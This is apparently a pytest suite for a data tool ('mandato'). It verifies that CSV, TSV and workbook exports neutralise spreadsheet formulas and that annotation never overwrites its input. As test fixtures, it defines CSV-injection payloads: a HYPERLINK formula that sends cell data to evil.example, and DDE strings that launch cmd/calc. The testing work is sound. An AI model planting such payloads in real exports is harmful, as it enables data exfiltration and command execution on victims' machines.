"""No download carries a spreadsheet formula (CSV injection, issue 34): a value from the data that
Excel or LibreOffice would run as a formula (``=HYPERLINK(…)``, ``+cmd|' /C calc'!A0``,
``@SUM(…)``) leaves mandato as text, in every CSV, TSV and workbook it writes; ``raw`` gives
machines the values as stored. And ``--annotate OUT.xlsx`` never overwrites its input.

The hostile values come from the data, as they would in use: a curator's plan (its targets and
indicators) and reference data given with ``--reference`` (a country's and an instrument's names),
ingested into a real store by the real command line."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook

from conftest import HERE
from mandato.api.app import create_app
from mandato.api.http import Settings
from mandato.store import Store

MANDATO = str(Path(sys.executable).parent / "mandato")
PARAGUAY = HERE / "inputs" / "documents" / "paraguay-plan"
PLAN = "py-plan-nacional-escnna-2024-2026"
ACTIVITY = f"https://w3id.org/mandato/id/plan/{PLAN}/1/1-1/1-1-1"
ACTIVITY_2 = f"https://w3id.org/mandato/id/plan/{PLAN}/1/1-1/1-1-2"

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Una campaña anual")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
COUNTRY = '=HYPERLINK("http://evil.example/?"&A1,"Costa Rica")'
SHORT_NAME = "=1+2"
HOSTILE = [HYPERLINK, DDE, AT, COUNTRY, SHORT_NAME]

# What a spreadsheet reads as a formula, written here apart from the code under test: a cell that
# starts (after spaces or a double quote) with = + - @ or their full-width forms, or with a tab, CR
# or LF, unless it is a plain number.
STARTS = re.compile(r"[\t\r\n]|[\s\"]*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def formula_like(value: str) -> bool:
    return bool(STARTS.match(value)) and not NUMBER.fullmatch(value.strip())


def assert_text_only(rows: list[list[str]]) -> None:
    """No cell of a CSV (as a spreadsheet splits it) would be read as a formula."""
    for row in rows:
        for value in row:
            assert not formula_like(value), value


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def tsv_cells(text: str) -> list[str]:
    """The cells of SPARQL TSV as a spreadsheet reads them: the double quotes around a field dropped
    (Excel and LibreOffice take " as the text delimiter of a tab-separated file too)."""
    cells = []
    for line in text.splitlines()[1:]:
        for field in line.split("\t"):
            cells.append(field[1:field.index('"', 1)] if field.startswith('"') else field)
    return cells


def assert_no_formula_in_workbook(data: bytes) -> list:
    """No cell of the workbook is a formula, and a text cell that would read as one if typed is
    marked as text (Excel's quote prefix, or a leading apostrophe). Returns every text cell."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[ >/]", z.read(name)), name  # no <f> element anywhere
    book = load_workbook(io.BytesIO(data))
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c)
                    if formula_like(c.value):
                        assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate, c.value)
    return texts


# -- the store: a plan and treaty actions with hostile values ---------------------------------------

REFERENCE_INSTRUMENT = f"""\
- key: un-xviii-12-a
  kind: Protocol
  depositary: un
  depositary_id: XVIII-12-a
  adopted: "2000"
  name: {{es: "Protocolo para Prevenir la Trata", en: "Protocol against Trafficking"}}
  short: {{es: "{SHORT_NAME}", en: "{DDE}"}}
  aliases: [Protocolo de Palermo, Palermo Protocol]
  supplements: un-xviii-12
"""


def hostile_reference(directory: Path) -> Path:
    """Reference data whose names start as formulas: Costa Rica and the Palermo Protocol."""
    directory.mkdir(parents=True, exist_ok=True)
    escaped = COUNTRY.replace('"', '""')
    (directory / "countries.csv").write_text(
        "alpha2,alpha3,name_es,name_en,variants,wikidata\n"
        f'CR,CRI,"{escaped}",@SUM(1+1),Costa Rica|Republic of Costa Rica,Q800\n', encoding="utf-8")
    (directory / "instruments.yaml").write_text(REFERENCE_INSTRUMENT, encoding="utf-8")
    return directory


@pytest.fixture(scope="module")
def store_path(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("formulas")
    corpus = tmp / "corpus"
    shutil.copytree(PARAGUAY, corpus)
    for other in ("plan.csv", "plan.xlsx"):
        (corpus / other).unlink()
    plan = corpus / "plan.tsv"
    text = plan.read_text(encoding="utf-8")
    for old, new in (("Una campaña anual", HYPERLINK), ("Número de campañas realizadas", AT),
                     ("600 docentes capacitados", DDE), ("Ninguna campaña en 2022", "-5")):
        assert old in text
        text = text.replace(old, new)
    plan.write_text(text, encoding="utf-8")
    manifest = corpus / "sources.yaml"
    manifest.write_text(manifest.read_text(encoding="utf-8") + "- id: test-treaty-actions\n  file: actos.csv\n"
                        "  title: Actos de prueba\n  layout: treaty-actions\n", encoding="utf-8")
    (corpus / "actos.csv").write_text("Instrumento,País,Acto,Fecha\nXVIII-12-a,Costa Rica,ratificación,2003-09-09\n"
                                      "XVIII-12-a,Paraguay,ratificación,2004-09-22\n", encoding="utf-8")
    hostile_reference(corpus / "reference")
    store = tmp / "store"
    done = subprocess.run([MANDATO, "--store", str(store), "ingest", str(corpus), "--reference",
                           str(corpus / "reference")], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    return store


@pytest.fixture(scope="module")
def client(store_path):
    store = Store(store_path, must_exist=True, read_only=True)  # as `mandato serve` opens it
    with TestClient(create_app(store, Settings(sparql_workers=1)), raise_server_exceptions=False) as c:
        yield c
    c.app.state.close()


def query(store: Path, *args: str) -> str:
    done = subprocess.run([MANDATO, "--store", str(store), "query", *args], capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    return done.stdout


# -- the one function ------------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "expected"), [
    (HYPERLINK, "'" + HYPERLINK), (DDE, "'" + DDE), (AT, "'" + AT),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+2", "'\t=1+2"), ("\r=1+2", "'\r=1+2"), ("\n=1+2", "'\n=1+2"), ("\tx", "'\tx"),
    ("＝1+2", "'＝1+2"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠SUM(A1)", "'＠SUM(A1)"),
    (" =1+2", "' =1+2"), ('"=1+2', "'\"=1+2"), ("\u00a0@x", "'\u00a0@x"), ("- a bullet", "'- a bullet"),
    ("-", "'-"), ("+1-555-0100", "'+1-555-0100"),
    # left as they are: numbers, dates, text, IRIs, the empty value, and a value already quoted
    ("-5", "-5"), ("+3.2", "+3.2"), ("-1e5", "-1e5"), ("-0.5", "-0.5"), ("-3,5", "-3,5"), (" -5 ", " -5 "),
    ("2003-09-09", "2003-09-09"), ("2025-Q4", "2025-Q4"), ("Costa Rica", "Costa Rica"), ("", ""),
    ("https://w3id.org/mandato/id/country/cr", "https://w3id.org/mandato/id/country/cr"), ("a=b", "a=b"),
    ("'=1+2", "'=1+2"),
])
def test_neutralise(value, expected):
    from mandato.spreadsheet_safe import neutralise

    assert neutralise(value) == expected
    assert neutralise(neutralise(value)) == neutralise(value)  # once is enough


# -- /sparql ---------------------------------------------------------------------------------------

SPARQL = ("SELECT ?label ?baseline WHERE { ?x <http://www.w3.org/2004/02/skos/core#prefLabel> ?label . "
          "OPTIONAL { <" + ACTIVITY + "> <https://w3id.org/mandato/ontology#baseline> ?baseline } "
          "FILTER(STRSTARTS(STR(?x), \"https://w3id.org/mandato/id/plan/\")) }")


def test_sparql_csv_is_text(client):
    r = client.get("/sparql", params={"query": SPARQL}, headers={"Accept": "text/csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = csv_rows(r.text)
    assert_text_only(rows)
    values = {v for row in rows[1:] for v in row}
    assert {"'" + HYPERLINK, "'" + DDE, "'" + AT} <= values
    assert "-5" in values  # a number stays a number


@pytest.mark.parametrize("method", ["GET", "POST", "POST_FORM"])
def test_sparql_csv_raw_gives_the_values_as_stored(client, method):
    if method == "GET":
        r = client.get("/sparql", params={"query": SPARQL, "format": "csv", "raw": "true"})
    elif method == "POST":
        r = client.post("/sparql", params={"format": "csv", "raw": "true"}, content=SPARQL,
                        headers={"Content-Type": "application/sparql-query"})
    else:
        r = client.post("/sparql", data={"query": SPARQL, "format": "csv", "raw": "true"})
    assert r.status_code == 200, r.text
    values = {v for row in csv_rows(r.text)[1:] for v in row}
    assert {HYPERLINK, DDE, AT, "-5"} <= values


def test_sparql_tsv_is_text(client):
    r = client.get("/sparql", params={"query": SPARQL, "format": "tsv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/tab-separated-values")
    cells = tsv_cells(r.text)
    for value in cells:
        assert not formula_like(value), value
    assert "'" + AT in cells and "-5" in cells
    assert '"\'' + AT + '"' in r.text  # still SPARQL TSV: the literal in N-Triples syntax
    raw = client.get("/sparql", params={"query": SPARQL, "format": "tsv", "raw": "1"})
    assert '"' + AT + '"' in raw.text and "'" + AT not in raw.text


def test_sparql_json_is_unchanged(client):
    r = client.get("/sparql", params={"query": SPARQL, "format": "srj"})
    values = {b["label"]["value"] for b in r.json()["results"]["bindings"]}
    assert {HYPERLINK, DDE, AT} <= values


def test_sparql_raw_must_be_a_boolean(client):
    r = client.get("/sparql", params={"query": SPARQL, "format": "csv", "raw": "maybe"})
    assert r.status_code == 400


# -- saved queries: API and command line -----------------------------------------------------------

def test_saved_query_csv_is_text(client):
    r = client.get("/queries/activity", params={"activity": ACTIVITY, "format": "csv"})
    assert r.status_code == 200
    rows = csv_rows(r.text)
    assert_text_only(rows)
    labels = {row[rows[0].index("label")] for row in rows[1:]}
    assert {"'" + HYPERLINK, "'" + AT} <= labels
    ratifications = csv_rows(client.get("/queries/ratifications", params={"instrument": "XVIII-12-a",
                                                                          "format": "csv"}).text)
    assert_text_only(ratifications)
    by_code = {row[1]: row for row in ratifications[1:]}
    assert by_code["CR"][0] == "'" + COUNTRY and by_code["CR"][4] == "2003-09-09"  # the date as it is


def test_saved_query_csv_raw_gives_the_values_as_stored(client):
    r = client.get("/queries/activity", params={"activity": ACTIVITY, "format": "csv", "raw": "true"})
    assert r.status_code == 200, r.text
    rows = csv_rows(r.text)
    assert {HYPERLINK, AT} <= {row[rows[0].index("label")] for row in rows[1:]}
    # the kept answer of one is never given for the other
    again = client.get("/queries/activity", params={"activity": ACTIVITY, "format": "csv"})
    assert "'" + HYPERLINK in {v for row in csv_rows(again.text) for v in row}
    raw = client.get("/queries/activity", params={"activity": ACTIVITY, "format": "csv", "raw": "true"})
    assert raw.content == r.content


def test_saved_query_tsv_is_text(client):
    r = client.get("/queries/activity", params={"activity": ACTIVITY_2, "format": "tsv"})
    assert r.status_code == 200
    cells = tsv_cells(r.text)
    assert "'" + DDE in cells
    for value in cells:
        assert not formula_like(value), value


def test_saved_query_raw_is_documented(client):
    operation = client.get("/openapi.json").json()["paths"]["/queries/activity"]["get"]
    raw = next(p for p in operation["parameters"] if p["name"] == "raw")
    assert raw["schema"]["type"] == "boolean" and "formula" in raw["description"]
    sparql = client.get("/openapi.json").json()["paths"]["/sparql"]
    for method in ("get", "post"):
        assert any(p["name"] == "raw" and "formula" in p["description"] for p in sparql[method]["parameters"])


def test_saved_query_pivoted_headings_are_text(client):
    """The matrix query's columns are named by the data (instruments' short names)."""
    r = client.get("/queries/ratification-matrix", params={"format": "csv"})
    assert r.status_code == 200
    rows = csv_rows(r.text)
    assert "'" + SHORT_NAME in rows[0]
    assert_text_only(rows)


def test_the_command_line_csv_is_text(store_path):
    rows = csv_rows(query(store_path, "activity", "-p", f"activity={ACTIVITY}", "--format", "csv"))
    assert_text_only(rows)
    assert "'" + HYPERLINK in {v for row in rows for v in row}
    raw = csv_rows(query(store_path, "activity", "-p", f"activity={ACTIVITY}", "--format", "csv", "--raw"))
    assert {HYPERLINK, AT} <= {v for row in raw for v in row}
    ratifications = csv_rows(query(store_path, "ratifications", "-p", "instrument=XVIII-12-a", "--format", "csv"))
    assert_text_only(ratifications)
    assert "2003-09-09" in {v for row in ratifications for v in row}


def test_the_command_line_tsv_is_text(store_path):
    cells = tsv_cells(query(store_path, "activity", "-p", f"activity={ACTIVITY_2}", "--format", "tsv"))
    assert "'" + DDE in cells and not any(formula_like(v) for v in cells)


# -- the matrix page's downloads -------------------------------------------------------------------

def test_matrix_csv_is_text(client):
    r = client.get("/matrix", params={"format": "csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = csv_rows(r.text)
    assert_text_only(rows)
    assert "'" + SHORT_NAME in rows[0] and "'" + COUNTRY in {row[0] for row in rows}
    assert "2003-09-09 (ratification)" in {v for row in rows for v in row}


def test_matrix_csv_cells_stay_whole_where_a_semicolon_separates(client):
    """Excel in a Spanish locale splits a CSV at ";": a quoted field stays one cell."""
    r = client.get("/matrix", params={"format": "csv"})
    for line in r.text.splitlines():
        for field in next(csv.reader([line], delimiter=";")):
            assert not formula_like(field.strip('"')), field


def test_matrix_xlsx_holds_no_formula(client):
    r = client.get("/matrix", params={"format": "xlsx"})
    assert r.status_code == 200
    texts = {c.value: c for c in assert_no_formula_in_workbook(r.content)}
    assert SHORT_NAME in texts and COUNTRY in texts  # the names as they are, shown as text
    assert texts[SHORT_NAME].quotePrefix and texts[COUNTRY].data_type == "s"


# -- the curators' templates -----------------------------------------------------------------------

@pytest.mark.parametrize("kind", ["plan", "treaty-actions", "bodies"])
def test_templates_hold_no_formula(tmp_path, kind):
    from mandato.registry import load_registry
    from mandato.templates import write_template

    registry = load_registry(hostile_reference(tmp_path / "reference"))
    write_template(kind, tmp_path / "t.xlsx", registry)
    data = (tmp_path / "t.xlsx").read_bytes()
    texts = {c.value: c for c in assert_no_formula_in_workbook(data)}
    assert COUNTRY in texts and texts[COUNTRY].quotePrefix  # the drop-downs list the hostile name, as text
    book = load_workbook(io.BytesIO(data))
    for ws in book.worksheets:  # the drop-downs are ranges of the hidden sheet, nothing from the data
        for check in ws.data_validations.dataValidation:
            assert re.fullmatch(r"'?Listas'?!\$[A-Z]+\$2:\$[A-Z]+\$\d+", check.formula1), check.formula1
    write_template(kind, tmp_path / "t.csv", registry)
    assert_text_only(csv_rows((tmp_path / "t.csv").read_text(encoding="utf-8")))


# -- the annotated workbook ------------------------------------------------------------------------

def _plan_workbook(path: Path) -> None:
    """A curator's plan workbook with a hostile text cell and a formula of the curator's own."""
    book = Workbook()
    facts = book.active
    facts.title = "Plan"
    for row in (["Título", "Plan de prueba"], ["Período", "2025"], ["País", "Paraguay"]):
        facts.append(row)
    sheet = book.create_sheet("Actividades")
    sheet.append(["Eje", "Actividad", "Responsable", "Línea base", "Meta"])
    sheet.append(["1. Prevención", "1.1.1 Hacer algo", "MINNA", "-5", None])
    sheet.append(["1. Prevención", "1.1.2 Hacer otra cosa", None, None, None])
    sheet["C3"].value = HYPERLINK
    sheet["C3"].data_type = "s"  # text the curator typed (or pasted from a document), not a formula
    sheet["E2"] = "=1+2"  # a formula
    book.save(path)


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def annotate(cli, book: Path, out: Path) -> tuple[int, str, str]:
    return cli("--store", book.parent / "store", "ingest", book, "--layout", "plan-table", "--reference",
               PARAGUAY / "reference", "--annotate", out)


def test_the_annotated_workbook_holds_no_formula(cli, tmp_path):
    book = tmp_path / "plan.xlsx"
    _plan_workbook(book)
    before = _sha(book)
    code, _out, err = annotate(cli, book, tmp_path / "annotated.xlsx")
    assert code in (0, 1), err
    assert _sha(book) == before
    data = (tmp_path / "annotated.xlsx").read_bytes()
    texts = {c.coordinate: c for c in assert_no_formula_in_workbook(data) if c.parent.title == "Actividades"}
    assert texts["C3"].value == HYPERLINK and texts["C3"].quotePrefix  # as the curator wrote it, as text
    assert texts["C3"].comment is not None and "matches no actor" in texts["C3"].comment.text
    assert texts["D2"].value == "-5" and not texts["D2"].quotePrefix
    assert not [p for p in os.listdir(tmp_path) if p.startswith(".")]  # no temporary file left behind


@pytest.mark.parametrize("how", ["same", "relative", "hard link", "symbolic link"])
def test_annotate_refuses_to_overwrite_its_input(cli, tmp_path, monkeypatch, how):
    book = tmp_path / "plan.xlsx"
    _plan_workbook(book)
    before = _sha(book)
    out = {"same": book, "relative": Path("plan.xlsx"), "hard link": tmp_path / "link.xlsx",
           "symbolic link": tmp_path / "symlink.xlsx"}[how]
    if how == "hard link":
        os.link(book, out)
    elif how == "symbolic link":
        out.symlink_to(book)
    monkeypatch.chdir(tmp_path)
    code, out_text, err = annotate(cli, book, out)
    assert code == 2 and "is the workbook being read" in err and "Traceback" not in err, err
    assert "dry run" not in out_text  # refused before anything is read
    assert _sha(book) == before


def test_annotate_into_a_missing_directory_is_a_clear_error(cli, tmp_path):
    book = tmp_path / "plan.xlsx"
    _plan_workbook(book)
    code, _, err = annotate(cli, book, tmp_path / "nowhere" / "annotated.xlsx")
    assert code == 2 and "cannot write" in err and "Traceback" not in err, err


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


PICTURE = ('<oneCellAnchor><from><col>7</col><colOff>0</colOff><row>1</row><rowOff>0</rowOff></from>'
           '<ext cx="95250" cy="95250"/><pic><nvPicPr><cNvPr id="2" name="Picture 1"/><cNvPicPr/></nvPicPr>'
           '<blipFill><a:blip r:embed="rIdPicture1"/><a:stretch><a:fillRect/></a:stretch></blipFill>'
           '<spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></spPr></pic><clientData/></oneCellAnchor>')


def _with_chart_and_picture(path: Path) -> None:
    """The plan workbook with a chart and a picture on its activities sheet, as Excel saves them."""
    from openpyxl.chart import BarChart, Reference

    _plan_workbook(path)
    book = load_workbook(path)
    sheet = book["Actividades"]
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=4, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "G2")
    book.save(path)
    with zipfile.ZipFile(path) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    parts["xl/media/image1.png"] = _png()
    parts["xl/drawings/drawing1.xml"] = parts["xl/drawings/drawing1.xml"].replace(b"</wsDr>",
                                                                                  PICTURE.encode() + b"</wsDr>")
    parts["xl/drawings/_rels/drawing1.xml.rels"] = parts["xl/drawings/_rels/drawing1.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdPicture1" Target="/xl/media/image1.png" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/image"/></Relationships>')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"<Default ", b'<Default Extension="png" ContentType="image/png"/><Default ', 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def test_annotate_keeps_pictures_and_charts(cli, tmp_path):
    book = tmp_path / "plan.xlsx"
    _with_chart_and_picture(book)
    before = _sha(book)
    code, _, err = annotate(cli, book, tmp_path / "annotated.xlsx")
    assert code in (0, 1), err
    assert _sha(book) == before
    with zipfile.ZipFile(tmp_path / "annotated.xlsx") as z:
        names = z.namelist()
    # the picture (openpyxl keeps pictures with Pillow, a dependency) and the chart are kept
    assert [n for n in names if n.startswith("xl/media/")]
    assert [n for n in names if re.fullmatch(r"xl/charts/chart\d+\.xml", n)]
    assert "lacks" not in err


def test_annotate_of_a_plain_workbook_warns_of_nothing(cli, tmp_path):
    book = tmp_path / "plan.xlsx"
    _plan_workbook(book)
    _, _, err = annotate(cli, book, tmp_path / "annotated.xlsx")
    assert "lacks" not in err
